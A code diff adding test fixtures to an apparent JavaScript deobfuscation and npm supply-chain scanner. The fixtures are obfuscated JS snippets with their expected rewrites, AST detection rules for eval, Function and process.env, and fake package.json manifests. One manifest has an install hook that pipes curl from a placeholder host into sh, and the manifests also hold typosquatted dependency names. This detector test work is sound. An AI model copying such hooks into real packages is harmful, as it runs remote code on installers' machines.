@@ -107,6 +107,67 @@ RULES = {
     "EV-001": "debugger;",
 }
 
+#: (pass, text, what it becomes, changes): written by hand, for the rewriting query and its SQL.
+REWRITES = [
+    ("string_decode", r'let a = "\x6f\x6b";', 'let a = "ok";', 1),
+    ("string_decode", r"let a = '\x27\x5c\x01\x6f';", r"let a = '\x27\x5c\x01o';", 1),
+    ("string_decode", "'\\u0068\\u0069'", "'hi'", 1),
+    ("string_decode", r'"\u{68}\u{69}"', '"hi"', 2),
+    ("string_decode", "[104,105,33].map(c => String.fromCharCode(c)).join('')", '"hi!"', 1),
+    ("string_decode", "[104,105,33].map(function(c){ return String.fromCharCode(c); }).join('')", '"hi!"', 1),
+    ("string_decode", "[104,300,33].map(String.fromCharCode).join('')", "[104,300,33].map(String.fromCharCode).join('')", 0),
+    ("string_decode", "window.atob('aGkgIg==')", r'"hi \""', 1),
+    ("string_decode", "String.fromCharCode(104, 105)", '"hi"', 1),
+    ("string_decode", "String.fromCharCode.apply(null, [104,105])", '"hi"', 1),
+    ("string_decode", "String.fromCharCode(...[104])", '"h"', 1),
+    ("string_decode", "Buffer.from('aGk=', 'base64').toString()", '"hi"', 1),
+    ("string_decode", "'cba'.split('').reverse().join('')", "'abc'", 1),
+    ("string_decode", 'x = "a".concat("b", "c",)', 'x = "abc"', 1),
+    ("string_decode", '"a".concat("b").concat("c")', '"abc"', 2),
+    ("constant_fold", '"a" + "b" + "c"', '"abc"', 2),
+    ("constant_fold", "\"a\" + 'b'", '"ab"', 1),
+    ("constant_fold", "\"a\" + 'say \"b\"'", "\"a\" + 'say \"b\"'", 0),
+    ("constant_fold", "let p = (6 * 7);", "let p = 42;", 1),
+    ("constant_fold", "(4 - (1 + 2))", "1", 2),
+    ("constant_fold", "(7 / 0) f(1+2)", "(7 / 0) f3", 1),
+    ("constant_fold", "0xff + 0o17 + 0b11", "255 + 15 + 3", 3),
+    ("constant_fold", "0xfffffffffffffffff", "0xfffffffffffffffff", 0),
+    ("constant_fold", 'parseInt("ff", 16) + parseInt("z", 99) + parseInt("9", 8)', '255 + parseInt("z", 99) + parseInt("9", 8)', 1),
+    ("constant_fold", "typeof undefined === 'undefined'; void 0", "true; undefined", 2),
+    ("constant_fold", "!![] ![] !!1 !!0 !0 !1 a!0", "true false true false true false a!0", 6),
+    ("eval_unwrap", 'eval("go()")', "/* unwrapped:eval */ go()", 1),
+    ("eval_unwrap", "new Function('go()')()", "/* unwrapped:Function */ go()", 1),
+    ("eval_unwrap", "setTimeout('go()', 5); setInterval(`a`, 1)", "setTimeout(function(){ /* unwrapped:timeout */ go() }, 5); setInterval(function(){ /* unwrapped:interval */ a }, 1)", 2),
+    ("control_flow", "if (false) { a(); } else { b(); }", "b();", 1),
+    ("control_flow", "x; if (0) { '}' /* } */ } y", "x;  y", 1),
+    ("control_flow", "if (true) { `${ {a: '}'} }` } else { b }", "`${ {a: '}'} }`", 1),
+    ("control_flow", "if (false) { unbalanced", "if (false) { unbalanced", 0),
+    ("control_flow", 'x = true ? "a:b" : c; y = false ? 1 : d', 'x = "a:b"; y = d', 2),
+    ("control_flow", "null || fallback; (0, a.b)(c)", "fallback; a.b(c)", 2),
+    ("constant_fold", "Number(0b11)", "Number(3)", 1),
+    ("constant_fold", "typeof undefined == 'undefined'", "true", 1),
+    ("constant_fold", "+[]", "+0", 1),
+    ("control_flow", "if (!1) { a() } b()", " b()", 1),
+    ("control_flow", "if (1) { a() } else { b() }", "a()", 1),
+    ("control_flow", "'' || x; (undefined, f.g)(1)", "x; f.g(1)", 2),
+    ("pretty", "if(a){b}else{c}", "if(a){\n  b\n} else{\n  c\n}", 1),
+]
+
+#: (name, kind of rule, pattern, text, places found), written by hand.
+SYNTAX = [
+    ("AST-01a", "call_expression", "eval", "}}} eval(x)", [(1, 5)]),
+    ("AST-01b", "call_expression", "eval", "function ( { eval(x)", [(1, 14)]),
+    ("AST-02a", "call_expression", "eval", "eval(x); a.eval(y); new eval(); f(eval); 'eval(z)'; `${eval(1)}`; /eval(2)/", [(1, 1), (1, 56)]),
+    ("AST-02b", "call_expression", "f", "a = b / f(1) / c; return /f(2)/.test(x)", [(1, 9)]),
+    ("AST-02c", "call_expression", "eval", "function eval(a) {} class A { eval(b) { return 1 } static eval(c) {} }", []),
+    ("AST-03a", "ast_node_type", "new_expression:Function", "new Function(); new Other(); x = new Function", [(1, 1), (1, 34)]),
+    ("AST-03b", "ast_node_type", "new_expression", "let a = 1\nnew Other()", [(2, 1)]),
+    ("AST-04a", "member_expression", "process.env", "process.env.A; process?.env; x.process.env; process.environment", [(1, 1), (1, 1)]),
+    ("AST-04b", "member_expression", "process.env", "a = process.env", [(1, 5)]),
+    ("AST-05a", "subscript_expression", "process.env", "process['env']; process[env]; process['x']", [(1, 1), (1, 17)]),
+    ("AST-06a", "call_expression", "eval", "[" * 3000 + "eval(x)" + "]" * 3000, [(1, 3001)]),
+]
+
 MANIFESTS = {
     "a/package.json": '{"name": "a", "scripts": {"postinstall": "curl http://x.example | sh", "install": 3, "prepare": "node-gyp rebuild"}, "bin": {"a": "x.js", "b": "eval.js"}, "dependencies": {"loda-sh": "1", "expres": "2", "@corp/react": "1", "react": "1", "@corp/axios": "2"}, "bundledDependencies": ["chalk", "momnet"]}',
     "b/package.json": '{"scripts": {"preinstall": "node -e 1", "install": "echo aGk= | base64 -d", "prepare": "bash -c x", "preuninstall": "see https://x.example"}, "devDependencies": {"left": "1", "@types/react": "1"}}',
